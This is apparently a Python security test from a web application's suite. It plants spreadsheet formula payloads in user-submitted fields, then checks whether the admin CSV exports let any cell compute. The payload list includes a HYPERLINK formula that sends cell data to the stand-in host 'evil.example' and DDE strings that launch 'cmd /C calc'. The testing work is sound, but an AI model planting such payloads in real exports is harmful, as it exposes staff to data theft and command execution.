"""Texts that a spreadsheet would compute, left by strangers in whatever staff export."""

import csv
import io
import re

from app.domain.accounts.models import Role
from app.web.visitor import cookie_name
from tests import people
from tests.attacks import target as house
from tests.attacks.outcome import Outcome
from tests.attacks.target import Target

FORMULAS = (
    '=HYPERLINK("https://evil.example/"&A1,"open")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
)
STARTS = tuple("=+-@\t\r＝＋－＠")
IS_NUMBER = re.compile(r"[-+]?[0-9.,]+%?")


def run(target: Target, _scale: float) -> Outcome:
    """Cells of the console's exports that begin as a formula does."""
    with target.inside(), target.app.test_request_context():
        wanted = house.product(50)
        path = house.path_of(wanted)
        member = people.make(Role.OWNER)
        secret, cookie = people.sign_in(member), cookie_name()
    left = sum(_leave(target, path, number, text) for number, text in enumerate(FORMULAS))
    owner = target.attacker(60_100)
    owner.cookies[cookie] = secret
    lists = re.findall(r'href="(/admin/[a-z/-]+)"', owner.get("/admin/").text)
    bad, exports = 0, 0
    for address in dict.fromkeys(lists):
        page = owner.get(f"{address}?format=csv")
        if page.text.startswith("\ufeff"):
            exports += 1
            rows = csv.reader(io.StringIO(page.text.removeprefix("\ufeff")))
            bad += sum(_is_formula(cell) for row in rows for cell in row)
    assert left and exports, "nothing was left, or nothing can be exported"
    return Outcome(
        "formula injection",
        f"{left} texts left, {exports} exports read",
        bad,
        "no cell computes",
        "nothing",
    )


def _leave(target: Target, path: str, number: int, text: str) -> int:
    """A report about an order, and an application to sell, with this text; how many were taken."""
    who = target.attacker(60_000 + number)
    page = who.submit(target.order(who, path, target.phone()), "")
    taken = 0
    for _ in range(100):
        if page.attribute("data-state") == "delivered":
            shown = who.submit(page, "/reveal")
            taken += who.submit(shown, "/problems", text=text).status < 400
            break
        page = who.get(page.path)
    email = f"formula{number}@example.com"
    who.submit(
        who.get("/account/registration"),
        "/account/registration",
        contact=email,
        password=people.PASSWORD,
        name=text,
    )
    form = who.get("/portal/application")
    taken += who.submit(form, "/portal/application", name=text[:20], introduction=text).status < 400
    return taken


def _is_formula(cell: str) -> bool:
    return cell.startswith(STARTS) and not IS_NUMBER.fullmatch(cell)
